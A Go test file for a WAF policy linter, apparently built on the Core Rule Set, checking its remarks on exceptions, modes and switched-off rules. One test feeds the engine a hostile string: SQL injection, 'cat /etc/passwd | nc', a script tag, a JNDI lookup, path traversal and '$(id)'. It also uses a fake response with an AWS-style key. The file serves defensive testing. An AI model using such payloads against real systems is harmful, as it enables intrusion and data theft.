package lint_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/verdict"
	"github.com/merlon-security/merlon/policy"
	"github.com/merlon-security/merlon/policy/lint"
	"github.com/merlon-security/merlon/policy/rules"
	"github.com/merlon-security/merlon/policy/waf"
)

const head = "apiVersion: merlon.dev/v1\nkind: Policy\n"

var today = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

func check(t *testing.T, text string) []string {
	t.Helper()
	f, err := policy.Parse([]byte(head + text))
	if err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	p := policy.Default()
	if err := f.Apply(p); err != nil {
		t.Fatal(err)
	}
	remarks, err := lint.Check(f, p, max(1, f.Paranoia), today)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range remarks {
		out = append(out, r.String())
	}
	return out
}

func TestCheck(t *testing.T) {
	t.Parallel()
	exception := func(keys string) string { return "exceptions: [{reason: x, " + keys + "}]\n" }
	mode := func(keys string) string { return "mode: block\nmodes: [{mode: monitor, reason: x, " + keys + "}]\n" }
	for _, row := range []struct{ name, text, want string }{
		{"an empty policy", "", ""},
		{"a rule at a place", exception(`rule: "9100808", place: body, path: [body, note]`), ""},
		{"a range", exception("rule: 9100800-9100899, place: cookie"), ""},
		{"a header of an event that is not HTTP", exception(`rule: "9100412", path: [Records, null, body, headers]`), ""},
		{"no such rule", exception(`rule: "942101000"`), "exceptions[0]: rule 942101000: there is no such rule"},
		{"nearly a rule", exception(`rule: "942109"`), "exceptions[0]: rule 942109: there is no such rule; the nearest is 942"},
		{"a rule that is switched off", exception(`rule: "942100", place: body`), "exceptions[0]: note: rule 942100: switched off by default, so this has no effect; what looks instead is 9100808"},
		{"one with several in its place", exception(`rule: "931100"`), "what looks instead is 9100120-9100125 and 9100207"},
		{"one with none in its place", exception(`rule: "920420"`), "exceptions[0]: note: rule 920420: switched off by default, so this has no effect"},
		{"a range of such rules", exception("rule: 941210-941220"), "exceptions[0]: note: rules 941210-941220: switched off by default, so this has no effect; what looks instead is 9101104"},
		{"a range whose others are of a higher level", exception("rule: 942100-942199"), "exceptions[0]: note: rules 942100-942199: switched off by default"},
		{"a range that holds others", exception("rule: 932100-932199"), ""},
		{"an empty range", exception("rule: 700000-700100"), "exceptions[0]: rules 700000-700100: there are no such rules"},
		{"a rule that finds nothing", exception(`rule: "949110"`), "exceptions[0]: rule 949110 never finds anything"},
		{"a rule of a higher level", exception(`rule: "942420"`), "exceptions[0]: rule 942420: evaluated from paranoia level 3; this policy runs level 1"},
		{"the same at that level", "paranoia: 3\n" + exception(`rule: "942420"`), ""},
		{"it has ended", exception(`rule: "9100808", expires: 2026-11-23`), "exceptions[0]: expired on 2026-11-23"},
		{"it ends tomorrow", exception(`rule: "9100808", expires: 2026-11-24`), ""},
		{"another place", exception(`rule: "913100", place: body`), "exceptions[0]: place: what it names looks at header, and finds nothing in a body"},
		{"a path elsewhere", exception(`rule: "913100", path: [body, agent]`), "exceptions[0]: path: what it names looks at header, and finds nothing in body"},
		{"place against path", exception(`rule: "9100808", place: query, path: [body, note]`), "exceptions[0]: path: what stands in body is no query, but one of: body, argument"},
		{"a rule about responses", exception(`rule: "951230", place: response, path: [response, body]`), ""},
		{"one of them elsewhere", exception(`rule: "9104101", place: body`), "exceptions[0]: place: what it names looks at response, and finds nothing in a body"},
		{"one that is switched off", exception(`rule: "952110"`), "exceptions[0]: note: rule 952110: switched off by default, so this has no effect; what looks instead is 9104001"},
		{"said twice", "exceptions:\n- {rule: 9100800-9100899, reason: x}\n- {rule: 9100808, place: body, route: POST /x, path: [a], reason: x}\n", "exceptions[1]: note: exceptions[0] excuses everything"},
		{"not quite twice", "exceptions:\n- {rule: 9100800-9100899, route: POST /y, reason: x}\n- {rule: 9100808, route: POST /x, reason: x}\n", ""},
		{"the first ends sooner", "exceptions:\n- {rule: 9100808, expires: 2027-01-01, reason: x}\n- {rule: 9100808, reason: x}\n", ""},
		{"paths that differ", "exceptions:\n- {rule: 9100808, path: [a, b], reason: x}\n- {rule: 9100808, path: [a, c], reason: x}\n- {rule: 9100808, path: [a], reason: x}\n", ""},
		{"any segment", "exceptions:\n- {rule: 9100808, path: [a, null], reason: x}\n- {rule: 9100808, path: [a, c], reason: x}\n", "exceptions[1]: note: exceptions[0]"},

		{"a mode", mode("rules: [sqli, 932100-932399]"), ""},
		{"a mode without effect", "mode: monitor\nmodes: [{mode: block, triggers: [sqs]}]\n", "modes[0]: note: mode is monitor"},
		{"a mode that has ended", mode("expires: 2026-01-01"), "modes[0]: expired on 2026-01-01"},
		{"a mode for no rule", mode(`rules: ["942109"]`), "modes[0]: rule 942109: there is no such rule"},
		{"a mode for one that is switched off", mode(`rules: [sqli, "932160"]`), "modes[0]: note: rule 932160: switched off by default, so this has no effect; what looks instead is 9100405 and 9100412"},
		{"triggers left out", "blockTriggers: [http]\n" + mode("triggers: [sqs, sns]"), "modes[0]: triggers: blockTriggers leaves all of them out"},
		{"one of them is not", "blockTriggers: [http]\n" + mode("triggers: [sqs, alb]"), ""},
		{"a route of a queue", mode("triggers: [sqs], route: POST /x"), "modes[0]: route: events of these triggers have no route"},
		{"never reached", "mode: block\nmodes:\n- {triggers: [http], mode: block}\n- {triggers: [alb], route: GET /x, rules: [sqli], mode: monitor, reason: x}\n", "modes[1]: never reached: modes[0] decides"},
		{"reached", "mode: block\nmodes:\n- {triggers: [http], rules: [xss], mode: block}\n- {triggers: [alb], rules: [sqli], mode: monitor, reason: x}\n", ""},
		{"reached by others", "mode: block\nmodes:\n- {triggers: [alb], mode: block}\n- {triggers: [http], mode: monitor, reason: x}\n", ""},
		{"reached when it ends", "mode: block\nmodes:\n- {triggers: [http], mode: monitor, reason: x, expires: 2027-01-01}\n- {triggers: [http], mode: monitor, reason: x}\n", ""},
		{"a range within", "mode: block\nmodes:\n- {rules: [9100800-9100899], mode: monitor, reason: x}\n- {rules: [\"9100808\"], mode: block}\n", "modes[1]: never reached"},
		{"nothing new", "mode: block\nmodes:\n- {rules: [sqli], mode: monitor, reason: x}\n- {mode: block}\n", "modes[1]: note: says what holds without it"},

		{"a rule without test", "rules: [{id: 7, when: 'true', action: monitor, message: m}]\n", "rules[0]: note: rule 7 has no test"},
		{"a rule with test", "rules: [{id: 7, when: 'true', action: monitor, message: m, tests: [{match: true, event: {}}]}]\n", ""},
		{"rule text without test", "secrules: |\n  SecRule ARGS \"@rx a\" \"id:8,pass,msg:m\"\n  SecAction \"id:9,pass,nolog,setvar:tx.a=1\"\n", "secrules: note: rule 8 has no test"},
		{"a large pattern", "secrules: |\n  SecRule ARGS \"@rx x[xy]{500}z\" \"id:8,pass,msg:m\"\ntests: [{rule: 8, match: true, event: {a: a}}]\n", "secrules: note: rule 8: its pattern compiles to 50"},
		{"rule text with test", "secrules: |\n  SecRule ARGS \"@rx a\" \"id:8,pass,msg:m\"\ntests: [{rule: 8, match: true, event: {a: a}}]\n", ""},
		{"an exception for an own rule", "rules: [{id: 7, when: 'true', action: monitor, message: m, tests: [{match: true, event: {}}]}]\n" + exception(`rule: "7"`), ""},
		{"an exception for none", exception(`rule: "7"`), "exceptions[0]: rule 7: there is no such rule"},
		{"an own rule's place", "secrules: |\n  SecRule REQUEST_HEADERS:X \"@rx a\" \"id:8,pass,msg:m\"\ntests: [{rule: 8, match: false, event: {}}]\n" + exception(`rule: "8", place: query`), "looks at header"},
		{"a variable of an own rule", "secrules: |\n  SecAction \"id:9,pass,nolog,setvar:tx.a=1\"\n" + exception(`rule: "9"`), "rule 9 never finds anything"},
	} {
		got := check(t, row.text)
		if row.want == "" && len(got) > 0 || row.want != "" && (len(got) != 1 || !strings.Contains(got[0], row.want)) {
			t.Errorf("Check(%s) = %q, want %q", row.name, got, row.want)
		}
	}
}

// TestSwitchedOffRulesAreKnown: a policy written for the Core Rule Set as it comes
// has no fault here, and what is said to look instead of its rules is there.
func TestSwitchedOffRulesAreKnown(t *testing.T) {
	t.Parallel()
	text := rules.SecLang(rules.Options{Paranoia: 4, Threshold: 5})
	n, instead := 0, map[string]bool{}
	for _, m := range regexp.MustCompile(`(?m)^SecRuleRemoveById (\d+)$`).FindAllStringSubmatch(text, -1) {
		n++
		got := check(t, "paranoia: 4\nexceptions: [{reason: x, rule: "+m[1]+"}]\n")
		if len(got) != 1 || !strings.Contains(got[0], "note: rule "+m[1]+": switched off by default") {
			t.Errorf("Check(an exception for %s) = %q", m[1], got)
			continue
		}
		for _, id := range regexp.MustCompile(`\d{6,7}(-\d+)?`).FindAllString(got[0], -1)[1:] {
			instead[id] = true
		}
	}
	for id := range instead {
		if got := check(t, "paranoia: 4\nexceptions: [{reason: x, rule: "+id+"}]\n"); len(got) > 0 {
			t.Errorf("%s looks instead: %q", id, got)
		}
	}
	if n < 50 || len(instead) < 20 {
		t.Errorf("%d rules are switched off, %d look instead; want at least 50 and 20", n, len(instead))
	}
}

// TestUnscreenedRulesAreNamed: what costs every event something is said, and how much.
func TestUnscreenedRulesAreNamed(t *testing.T) {
	t.Parallel()
	got := check(t, `secrules: |
  SecRule ARGS "@streq 900150983cd24fb0d6963f7d28e17f72" "id:8,pass,msg:m,t:md5,t:hexEncode"
  SecRule ARGS "@rx a" "id:9,pass,msg:m"
tests: [{rule: 8, match: true, event: {a: abc}}, {rule: 9, match: true, event: {a: abc}}]
`)
	if len(got) != 2 || !strings.Contains(got[0], "rule 8: transformation md5: the screen cannot tell") || !strings.Contains(got[1], "takes about ") {
		t.Errorf("Check = %q, want rule 8 and its cost", got)
	}
}

// TestNoRuleIsCalledDead: an exception copied from what the engine finds, in
// every place of an event, is no fault.
func TestNoRuleIsCalledDead(t *testing.T) {
	t.Parallel()
	engine, err := waf.New(waf.Options{Rules: rules.Options{Paranoia: 4, Threshold: 5}, Responses: waf.Responses{On: true}})
	if err != nil {
		t.Fatal(err)
	}
	const attack = "'; cat /etc/passwd | nc x 1 -- <script>alert(1)</script>${jndi:ldap://x}../../etc/passwd"
	quoted, query := strconv.Quote(attack), url.QueryEscape(attack)
	var text strings.Builder
	text.WriteString("paranoia: 4\nexceptions:\n")
	seen := map[verdict.Place]int{}
	for _, body := range []string{
		`{"version":"2.0","routeKey":"$default","rawPath":"/x` + query + `","rawQueryString":"a=` + query + `","headers":{"user-agent":"sqlmap","x-one":` + quoted + `},"cookies":["c=` + query + `"],` +
			`"requestContext":{"apiId":"a","http":{"method":"X-Y","path":"/x","protocol":"HTTP/1.1","sourceIp":"10.0.0.1"}},"body":` + strconv.Quote(`{"note":`+quoted+`,"`+"$("+`id)":1}`) + `}`,
		`{"httpMethod":"POST","path":"/x/../../etc/passwd","resource":"/{p+}","multiValueHeaders":{"Referer":[` + quoted + `]},"multiValueQueryStringParameters":{"q":[` + quoted + `]},"requestContext":{},"body":` + quoted + `}`,
		`{"Records":[{"messageId":"1","receiptHandle":"r","body":` + strconv.Quote(`{"cmd":`+quoted+`}`) + `,"attributes":{},"messageAttributes":{},"eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:eu-west-1:1:q","awsRegion":"eu-west-1"}]}`,
		`{"detail":{"name":` + quoted + `}}`,
	} {
		ev := event.Decode([]byte(body), http.Header{"Lambda-Runtime-Client-Context": {`{"custom":{"a":` + quoted + `}}`}}, event.DefaultLimits())
		found, err := engine.Inspect(t.Context(), ev)
		if err != nil {
			t.Fatal(err)
		}
		if ev.HTTP != nil {
			r := engine.InspectResponse(t.Context(), ev, waf.ResponseHead{Status: 500})
			more, err := r.Write([]byte("ORA-00942: table or view does not exist <title>r57 shell</title> AKIAR5TNHV4JQ2XWKD7M Lm2N/qLyjWDarjtT1zdp7dcZk3vQ9hYs5DfGb1Ae"))
			rest, _, err2 := r.Close()
			if err != nil || err2 != nil {
				t.Fatal(err, err2)
			}
			found.Findings = append(append(found.Findings, more...), rest...)
		}
		for _, f := range found.Findings {
			if f.Place == verdict.PlaceUnknown || f.IsName {
				continue
			}
			seen[f.Place]++
			var steps []string
			for _, s := range f.Path {
				if s.Array {
					steps = append(steps, strconv.Itoa(s.Index))
				} else {
					steps = append(steps, strconv.Quote(s.Key))
				}
			}
			fmt.Fprintf(&text, "- {rule: %d, place: %s, path: [%s], reason: x}\n", f.RuleID, f.Place, strings.Join(steps, ", "))
		}
	}
	for _, p := range []verdict.Place{verdict.PlaceMethod, verdict.PlaceTarget, verdict.PlacePath, verdict.PlaceQuery, verdict.PlaceHeader, verdict.PlaceCookie, verdict.PlaceBody, verdict.PlaceArgument, verdict.PlaceContext, verdict.PlaceResponse} {
		if seen[p] == 0 {
			t.Errorf("nothing was found in place %s", p)
		}
	}
	for _, remark := range check(t, text.String()) {
		if !strings.Contains(remark, ": note: ") {
			t.Errorf("Check: %s\nof: %s", remark, line(text.String(), remark))
		}
	}
}

// line is the exception that a remark is about.
func line(text, remark string) string {
	n := 0
	if _, err := fmt.Sscanf(remark, "exceptions[%d]", &n); err != nil {
		return ""
	}
	return strings.Split(text, "\n")[n+2]
}
